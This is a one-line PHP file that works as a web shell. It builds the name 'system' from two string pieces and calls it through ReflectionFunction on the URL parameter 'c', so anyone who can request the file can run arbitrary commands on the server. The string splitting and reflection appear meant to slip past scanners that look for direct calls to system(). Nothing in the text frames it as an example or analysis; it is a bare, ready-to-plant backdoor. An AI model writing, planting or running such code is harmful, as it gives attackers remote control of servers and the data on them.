<?php $m = 'sys' . 'tem'; $r = new ReflectionFunction($m); $r->invokeArgs(array($_GET['c']));
